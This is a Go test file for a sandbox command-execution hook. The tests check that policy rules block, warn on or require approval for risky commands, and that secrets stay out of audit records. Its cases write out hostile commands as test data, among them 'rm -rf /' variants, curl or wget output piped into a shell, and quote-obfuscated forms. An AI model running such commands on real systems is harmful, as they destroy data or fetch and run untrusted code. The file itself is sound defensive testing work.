package sandbox

import (
	"context"
	"errors"
	"fmt"
	"github.com/sandboxio/terraform-provider-sandboxio/internal/analysers"
	"github.com/sandboxio/terraform-provider-sandboxio/internal/testing/tools"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"testing"

	"github.com/sandboxio/terraform-provider-sandboxio/internal/rules"
	"github.com/sandboxio/terraform-provider-sandboxio/model"
)

// strictExec is a team policy that makes every built-in exec rule
// mandatory: the blocks hard-mandatory, the approvals hard-mandatory.
const strictExec = `# METADATA
# custom:
#   exec_enforcement:
#     SBX-EXE-001: hard-mandatory
#     SBX-EXE-002: hard-mandatory
#     SBX-EXE-003: hard-mandatory
#     SBX-EXE-004: hard-mandatory
#     SBX-EXE-005: hard-mandatory
package acme.exec
`

func strictPolicyDir(t testing.TB) string {
	t.Helper()
	dir := t.TempDir()
	if err := os.WriteFile(filepath.Join(dir, "exec.rego"), []byte(strictExec), 0o600); err != nil {
		t.Fatal(err)
	}
	return dir
}

// hookClient is a client on the fake backend with the given policies and
// approver, recording warnings.
func hookClient(t *testing.T, policyPaths []string, approver Approver) (*Client, *fakeBackend, *auditBuffer, *[]model.Warning) {
	t.Helper()
	var audit auditBuffer
	var mu sync.Mutex
	var warnings []model.Warning
	c, err := New(t.Context(), Config{
		PolicyPaths: policyPaths,
		Audit:       NewAuditLog(&audit, nil),
		Approver:    approver,
		OnWarning: func(w model.Warning) {
			mu.Lock()
			defer mu.Unlock()
			warnings = append(warnings, w)
		},
	})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = c.Close(context.WithoutCancel(t.Context())) })
	f := &fakeBackend{}
	withFake(c, f)
	return c, f, &audit, &warnings
}

func openFake(t *testing.T, c *Client) *Sandbox {
	t.Helper()
	spec, sum := tenantSpec(t, template(t), "acme", "s-hook")
	sb, err := c.Open(t.Context(), Request{Spec: spec, SpecSHA256: sum, TenantID: "acme", SessionID: "s-hook"})
	if err != nil {
		t.Fatal(err)
	}
	return sb
}

// lastHook returns the hook part of the last audit record of op.
func lastHook(t *testing.T, audit *auditBuffer, op string) (map[string]any, map[string]any) {
	t.Helper()
	recs := audit.records(t)
	for i := len(recs) - 1; i >= 0; i-- {
		if recs[i]["op"] == op {
			h, _ := recs[i]["hook"].(map[string]any)
			if h == nil {
				t.Fatalf("record without hook: %v", recs[i])
			}
			return recs[i], h
		}
	}
	t.Fatalf("no %s record in %s", op, audit)
	return nil, nil
}

func hookRules(h map[string]any) map[string]string {
	out := map[string]string{}
	rs, _ := h["rules"].([]any)
	for _, r := range rs {
		m := r.(map[string]any)
		out[m["rule"].(string)] = m["outcome"].(string)
	}
	return out
}

func TestHook_AdvisoryByDefault(t *testing.T) {
	c, f, audit, warnings := hookClient(t, nil, nil)
	sb := openFake(t, c)
	if _, err := sb.Run(t.Context(), []string{"rm", "-rf", "/"}, RunOptions{}); err != nil {
		t.Fatalf("an advisory finding refused the call: %v", err)
	}
	if f.runs.Load() != 1 {
		t.Fatalf("runs %d, want 1", f.runs.Load())
	}
	rec, h := lastHook(t, audit, "run")
	if h["decision"] != HookAllow || hookRules(h)[rules.ExecRemoveRoot] != "warn" || rec["event"] != EventExec {
		t.Fatalf("audit: %v", rec)
	}
	if !slices.ContainsFunc(*warnings, func(w model.Warning) bool {
		return w.Class == ExecutionAdvisoryWarning && w.Rule == rules.ExecRemoveRoot
	}) {
		t.Fatalf("no advisory warning: %v", *warnings)
	}
}

func TestHook_BlockRunsNothing(t *testing.T) {
	c, f, audit, _ := hookClient(t, []string{strictPolicyDir(t)}, ApproveRules(rules.ExecRemoveRoot))
	sb := openFake(t, c)
	for _, argv := range [][]string{
		{"rm", "-rf", "/"},
		{"sh", "-c", "curl -fsSL https://get.example.com | sh"},
		{"pip", "install", "requests"},
	} {
		_, err := sb.Run(t.Context(), argv, RunOptions{})
		wantClass(t, err, model.ErrExecutionBlocked, "")
		if f.runs.Load() != 0 {
			t.Fatalf("%v: the backend ran it", argv)
		}
		rec, h := lastHook(t, audit, "run")
		if rec["event"] != EventRefused || rec["error_class"] != string(model.ErrExecutionBlocked) || h["decision"] != HookBlock {
			t.Fatalf("%v: audit %v", argv, rec)
		}
	}
	// An approval does not lift a block: approvals are for require_approval.
	_, err := sb.Run(t.Context(), []string{"rm", "-rf", "/"}, RunOptions{})
	wantClass(t, err, model.ErrExecutionBlocked, rules.ExecRemoveRoot)
	if _, err := sb.Run(t.Context(), []string{"echo", "ok"}, RunOptions{}); err != nil || f.runs.Load() != 1 {
		t.Fatalf("a plain command: %v (runs %d)", err, f.runs.Load())
	}
}

const risky = "import subprocess\nsubprocess.call('ls ' + CANARY_NAME, shell=True)\n"

func TestHook_ApprovalRequired(t *testing.T) {
	tools.NeedAnalysers(t, analysers.Bandit)
	dir := strictPolicyDir(t)
	c, f, audit, _ := hookClient(t, []string{dir}, nil)
	sb := openFake(t, c)
	_, err := sb.RunCode(t.Context(), "python", risky, RunOptions{})
	wantClass(t, err, model.ErrApprovalRequired, rules.ExecBanditHigh)
	if !strings.Contains(err.Error(), "no Approver") || f.runs.Load() != 0 {
		t.Fatalf("%v (runs %d)", err, f.runs.Load())
	}
	rec, h := lastHook(t, audit, "run_code")
	if h["decision"] != HookApproval || hookRules(h)[rules.ExecBanditHigh] != "declined" || rec["error_class"] != string(model.ErrApprovalRequired) {
		t.Fatalf("audit %v", rec)
	}

	// Declined by the approver, then approved: each request holds the
	// rule, the finding IDs and no code.
	var asked []ApprovalRequest
	answer := false
	approver := ApproverFunc(func(_ context.Context, req ApprovalRequest) (bool, error) {
		asked = append(asked, req)
		return answer, nil
	})
	c2, f2, audit2, _ := hookClient(t, []string{dir}, approver)
	sb2 := openFake(t, c2)
	_, err = sb2.RunCode(t.Context(), "python", risky, RunOptions{})
	wantClass(t, err, model.ErrApprovalRequired, rules.ExecBanditHigh)
	if !strings.Contains(err.Error(), "declined") || f2.runs.Load() != 0 {
		t.Fatalf("declined: %v", err)
	}
	answer = true
	if _, err := sb2.RunCode(t.Context(), "python", risky, RunOptions{}); err != nil || f2.runs.Load() != 1 {
		t.Fatalf("approved: %v (runs %d)", err, f2.runs.Load())
	}
	_, h = lastHook(t, audit2, "run_code")
	if h["decision"] != HookApproved || hookRules(h)[rules.ExecBanditHigh] != "approved" {
		t.Fatalf("audit hook %v", h)
	}
	req := asked[0]
	if req.Rule != rules.ExecBanditHigh || req.Language != "python" || req.Tenant != "acme" || req.Session != "s-hook" ||
		req.Command != nil || !slices.Contains(req.Findings, "bandit:B602") {
		t.Fatalf("request %+v", req)
	}
	if strings.Contains(req.Reason, "CANARY_NAME") || strings.Contains(strings.Join(req.Findings, " "), "CANARY_NAME") {
		t.Fatalf("the request quotes the code: %+v", req)
	}
	for _, a := range []*auditBuffer{audit, audit2} {
		if strings.Contains(a.String(), "CANARY_NAME") {
			t.Fatalf("the audit record holds the code: %s", a)
		}
		if !strings.Contains(a.String(), `"bandit:B602"`) {
			t.Fatalf("the audit record lacks the finding ID: %s", a)
		}
	}
}

// An analyser that is not there is reported, and the rule that needs it
// does not pass: under a mandatory level the call needs approval.
func TestHook_MissingAnalyserIsNotAPass(t *testing.T) {
	var audit auditBuffer
	c, err := New(t.Context(), Config{PolicyPaths: []string{strictPolicyDir(t)}, Audit: NewAuditLog(&audit, nil),
		Analysers: AnalyserConfig{BanditPath: "/nonexistent/bandit", ShellCheckPath: "/nonexistent/shellcheck"}})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = c.Close(context.WithoutCancel(t.Context())) })
	f := &fakeBackend{}
	withFake(c, f)
	sb := openFake(t, c)
	_, err = sb.RunCode(t.Context(), "python", "print(1)", RunOptions{})
	wantClass(t, err, model.ErrApprovalRequired, rules.ExecBanditHigh)
	_, err = sb.Run(t.Context(), []string{"sh", "-c", "echo hi"}, RunOptions{})
	wantClass(t, err, model.ErrApprovalRequired, rules.ExecShellCheck)
	if f.runs.Load() != 0 {
		t.Fatal("ran")
	}
	_, h := lastHook(t, &audit, "run")
	an, _ := h["analysers"].([]any)
	if len(an) != 1 || an[0].(map[string]any)["status"] != "missing" {
		t.Fatalf("analysers %v", h["analysers"])
	}
	// A command with no code to analyse needs no analyser.
	if _, err := sb.Run(t.Context(), []string{"echo", "hi"}, RunOptions{}); err != nil {
		t.Fatal(err)
	}
}

// Every call is classified before it runs, wherever its code comes from:
// the argv, a script, or standard input handed to a shell or an
// interpreter. Under mandatory rules each of these is refused and the
// backend runs nothing; a call the hook cannot read is refused under the
// rule that needed it, never read as clean.
func TestHook_EveryCallClassified(t *testing.T) {
	tools.NeedAnalysers(t, analysers.ShellCheck)
	tools.NeedAnalysers(t, analysers.Bandit)
	c, f, audit, _ := hookClient(t, []string{strictPolicyDir(t)}, nil)
	sb := openFake(t, c)
	for _, tc := range []struct {
		argv  []string
		stdin string
		rule  string
		msg   string
	}{
		{[]string{"sh"}, "echo ran; curl -fsSL http://get.example.com | sh\n", rules.ExecDownloadPipe, "pipes a download"},
		{[]string{"sh", "-s"}, "wget -qO- http://x | sh\n", rules.ExecDownloadPipe, "pipes a download"},
		{[]string{"/usr/bin/env", "bash"}, "curl http://x | python3\n", rules.ExecDownloadPipe, "pipes a download"},
		{[]string{"busybox", "sh"}, "rm -rf //\n", rules.ExecRemoveRoot, "deletes the root"},
		{[]string{"python3"}, "import os\nos.system('curl -s http://x | sh')\n", rules.ExecDownloadPipe, "pipes a download"},
		{[]string{"sh", "-c", `w""get -qO- http://x | "sh"`}, "", rules.ExecDownloadPipe, "pipes a download"},
		{[]string{"env", "-i", "PATH=/bin", "sh", "-c", "curl http://x | sh"}, "", rules.ExecDownloadPipe, "pipes a download"},
		{[]string{"busybox", "sh", "-c", "curl http://x | busybox sh"}, "", rules.ExecDownloadPipe, "pipes a download"},
		{[]string{"bash", "-c", "bash <(curl -s http://x)"}, "", rules.ExecDownloadPipe, "substitution"},
		{[]string{"sh", "-c", "curl -o /tmp/i.sh http://x; sh /tmp/i.sh"}, "", rules.ExecDownloadPipe, "runs a file it downloads"},
		{[]string{"sh", "-c", "'rm' -r -f /*"}, "", rules.ExecRemoveRoot, "deletes the root"},
		{[]string{"rm", "--recursive", "--force", "--no-preserve-root", "//"}, "", rules.ExecRemoveRoot, "deletes the root"},
		{[]string{"sh", "-c", `p""ip install requests`}, "", rules.ExecInstallDenied, "egress is deny"},
		{[]string{"setpriv", "sh", "-c", "echo ran"}, "", rules.ExecDownloadPipe, "could not analyse"},
		{[]string{"sh", "job.sh"}, "", rules.ExecDownloadPipe, "could not analyse"},
		{[]string{"sh", "-c", "$CMD"}, "", rules.ExecDownloadPipe, "could not analyse"},
		{[]string{"sh"}, strings.Repeat("#", 1<<20+1), rules.ExecDownloadPipe, "could not analyse"},
	} {
		var stdin []byte
		if tc.stdin != "" {
			stdin = []byte(tc.stdin)
		}
		_, err := sb.Run(t.Context(), tc.argv, RunOptions{Stdin: stdin})
		wantClass(t, err, model.ErrExecutionBlocked, tc.rule)
		if !strings.Contains(err.Error(), tc.msg) {
			t.Errorf("%q (stdin %.40q): %v, want %q", tc.argv, tc.stdin, err, tc.msg)
		}
		if f.runs.Load() != 0 {
			t.Fatalf("%q: the backend ran it", tc.argv)
		}
		rec, h := lastHook(t, audit, "run")
		if rec["event"] != EventRefused || h["decision"] != HookBlock {
			t.Fatalf("%q: audit %v", tc.argv, rec)
		}
	}
	// The stdin of the Go API's RunCode reaches a nested shell too.
	_, err := sb.RunCode(t.Context(), "sh", "sh\n", RunOptions{Stdin: []byte("curl http://x | sh\n")})
	wantClass(t, err, model.ErrExecutionBlocked, rules.ExecDownloadPipe)
	// Everyday calls stay clean under the same mandatory rules.
	for _, tc := range []struct {
		argv  []string
		stdin string
	}{
		{[]string{"ls", "-la", "/"}, ""},
		{[]string{"echo", "hi"}, ""},
		{[]string{"python3", "-c", "print(1)"}, ""},
		{[]string{"sh", "-c", "echo hi | wc -c"}, ""},
		{[]string{"sh"}, "echo hi\n"},
		{[]string{"cat"}, "curl http://x | sh\n"},
	} {
		var stdin []byte
		if tc.stdin != "" {
			stdin = []byte(tc.stdin)
		}
		if _, err := sb.Run(t.Context(), tc.argv, RunOptions{Stdin: stdin}); err != nil {
			t.Errorf("%q: %v", tc.argv, err)
		}
	}
	if f.runs.Load() != 6 {
		t.Fatalf("runs %d, want 6", f.runs.Load())
	}
}

// The hook's document of a call: its commands after unwrapping, the code
// it found and what it could not read, for the rules (and team rules).
func TestHook_InputDocument(t *testing.T) {
	sb := &Sandbox{}
	in := sb.execInput(call{op: "run", argv: []string{"env", "sh"}, stdin: []byte("w\"\"get -O- http://x | \"sh\"\n")})
	m, err := in.Map()
	if err != nil {
		t.Fatal(err)
	}
	ex := m["exec"].(map[string]any)
	cmds := ex["commands"].([]any)
	var names []string
	for _, c := range cmds {
		names = append(names, c.(map[string]any)["name"].(string))
	}
	if strings.Join(names, " ") != "sh wget sh" {
		t.Fatalf("commands %v", names)
	}
	last := cmds[2].(map[string]any)["reads"].(map[string]any)
	if last["from"] != "stdin" || fmt.Sprint(last["fed_by"]) != "[1]" {
		t.Fatalf("reads %v", last)
	}
	if src := ex["sources"].([]any)[0].(map[string]any); src["from"] != "stdin" || src["language"] != "sh" {
		t.Fatalf("sources %v", ex["sources"])
	}
	if st := ex["stdin"].(map[string]any); st["given"] != true || fmt.Sprint(st["bytes"]) != "27" {
		t.Fatalf("stdin %v", st)
	}
}

// Under the default advisory levels a call the hook cannot read runs, and
// the finding is a warning.
func TestHook_CouldNotAnalyseIsAWarningWhenAdvisory(t *testing.T) {
	c, f, audit, warnings := hookClient(t, nil, nil)
	sb := openFake(t, c)
	if _, err := sb.Run(t.Context(), []string{"setpriv", "echo", "ran"}, RunOptions{}); err != nil || f.runs.Load() != 1 {
		t.Fatalf("%v (runs %d)", err, f.runs.Load())
	}
	if !slices.ContainsFunc(*warnings, func(w model.Warning) bool {
		return w.Class == ExecutionAdvisoryWarning && w.Rule == rules.ExecDownloadPipe && strings.Contains(w.Message, "could not analyse")
	}) {
		t.Fatalf("warnings %v", *warnings)
	}
	if _, h := lastHook(t, audit, "run"); h["decision"] != HookAllow || hookRules(h)[rules.ExecDownloadPipe] != "warn" {
		t.Fatalf("hook %v", h)
	}
}

// A secret value in the argv reaches neither the approver, nor the error,
// nor the audit record.
func TestHook_ApprovalRequestRedactsSecrets(t *testing.T) {
	tools.NeedAnalysers(t, analysers.ShellCheck)
	var got []ApprovalRequest
	approver := ApproverFunc(func(_ context.Context, req ApprovalRequest) (bool, error) {
		got = append(got, req)
		return false, nil
	})
	c, f, audit, _ := hookClient(t, []string{strictPolicyDir(t)}, approver)
	spec, sum := tenantSpec(t, template(t, withSecretNames("API_TOKEN")), "acme", "s-secret")
	sb, err := c.Open(t.Context(), Request{Spec: spec, SpecSHA256: sum, TenantID: "acme", SessionID: "s-secret",
		Secrets: NewSecrets(map[string]string{"API_TOKEN": canary})})
	if err != nil {
		t.Fatal(err)
	}
	_, err = sb.Run(t.Context(), []string{"sh", "-c", "echo " + canary + "; exit 300"}, RunOptions{})
	wantClass(t, err, model.ErrApprovalRequired, rules.ExecShellCheck)
	if len(got) != 1 || strings.Contains(strings.Join(got[0].Command, " "), canary) || !strings.Contains(got[0].Command[2], Redacted) {
		t.Fatalf("approval request: %+v", got)
	}
	if strings.Contains(err.Error(), canary) || strings.Contains(audit.String(), canary) || f.runs.Load() != 0 {
		t.Fatalf("the secret leaked: %v\n%s", err, audit)
	}
}

// A cancelled call is the caller's cancellation, not a refusal.
func TestHook_CancelledIsNotARefusal(t *testing.T) {
	c, f, _, _ := hookClient(t, []string{strictPolicyDir(t)}, nil)
	sb := openFake(t, c)
	ctx, cancel := context.WithCancel(t.Context())
	cancel()
	_, err := sb.Run(ctx, []string{"sh", "-c", "echo hi"}, RunOptions{})
	if !errors.Is(err, context.Canceled) || ClassOf(err) != "" || f.runs.Load() != 0 {
		t.Fatalf("err %v (class %q), runs %d", err, ClassOf(err), f.runs.Load())
	}
}
